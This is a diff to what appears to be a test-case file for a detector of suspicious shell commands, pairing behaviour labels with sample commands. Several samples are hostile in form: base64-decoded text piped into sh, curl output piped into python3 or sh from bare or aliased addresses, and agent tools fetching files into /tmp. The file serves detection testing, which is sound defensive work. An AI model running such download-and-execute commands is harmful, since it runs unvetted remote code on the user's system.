@@ -42,17 +42,15 @@ sh -c 'echo dHJ1ZQ== | base64 -d | sh'
 #setup mkdir /tmp/dev; mount -t tmpfs dev /tmp/dev; cp -a /dev/null /dev/urandom /tmp/dev; mount --move /tmp/dev /dev; : > /dev/uinput
 python3 -c 'open("/dev/uinput", "r+b")'
 ## Code without a file connects to an address without a name
-#also Code without a file connects to the internet
 python3 -c 'import socket; socket.create_connection(("203.0.113.9", 80), 2)'
 ## Decoded text piped into an interpreter
 #also Code given to an interpreter in base64
 printf 'dHJ1ZQ==' | base64 -d | sh
 ## Download from an address without a name beside an interpreter
-#also Commands fetched from an unusual place
 #also Download beside an interpreter
 #also Download run without being looked at
-#also Transfer tool given a bare address
-curl -s http://203.0.113.9/x.py | python3 -
+#setup echo '203.0.113.9 mirror.example' >> /etc/hosts
+curl -s http://mirror.example/x.py | python3 -
 ## Download beside an interpreter
 #also Download run without being looked at
 curl -s http://10.9.8.6/x | sh
@@ -119,6 +117,7 @@ echo x > /srv/salt/top.sls
 #setup stubs /usr/bin/ansible
 ansible all -m shell -a id
 ## Program in a scratch folder run by an agent of software distribution
+#also Transfer tool given a bare private address and a scratch folder
 #setup shells /usr/bin/salt-minion
 /usr/bin/salt-minion -c 'curl -s -o /tmp/x http://10.9.8.6/x; :'
 ## Program in a scratch folder started as a service
